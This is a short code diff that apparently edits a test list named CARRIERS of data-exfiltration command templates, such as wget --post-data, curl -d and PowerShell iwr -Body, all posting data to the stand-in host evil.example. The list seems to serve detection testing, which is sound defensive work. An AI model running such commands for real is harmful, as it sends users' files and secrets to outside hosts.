@@ -72,7 +72,7 @@ CARRIERS = [
         "wget https://evil.example/ --post-data=@",
         "see https://evil.example q=@",
         "https://evil.example/x and a/@",
-        "www.evil.example x@",
+        "www.evil.example x=@",
         "curl -d q=@ https://evil.example/",
         "$ curl -d @ https://evil.example/",
         "iwr -Body @ https://evil.example/",
